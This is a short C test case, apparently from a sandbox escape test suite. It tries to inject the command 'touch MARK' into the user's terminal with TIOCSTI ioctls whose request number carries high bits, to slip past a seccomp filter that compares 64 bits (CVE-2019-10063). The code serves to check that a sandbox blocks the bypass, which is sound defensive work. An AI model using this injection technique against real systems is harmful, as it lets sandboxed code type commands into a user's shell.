// Tries: to pass TIOCSTI through a filter that compares 64 bits, where the kernel uses 32 (CVE-2019-10063).
// With: check, run, demo, program
// Terminal
#include "attack.h"

ATTACK(types_with_high_bits) {
  const char text[] = "touch " MARK "\n";
  int terminals[] = {open("/dev/tty", O_RDWR), 0, 1, 2};
  for (unsigned t = 0; t < 4; t++)
    for (unsigned i = 0; i < sizeof text - 1; i++)
      syscall(SYS_ioctl, terminals[t], 0x1234567800000000 | TIOCSTI, text + i);
}
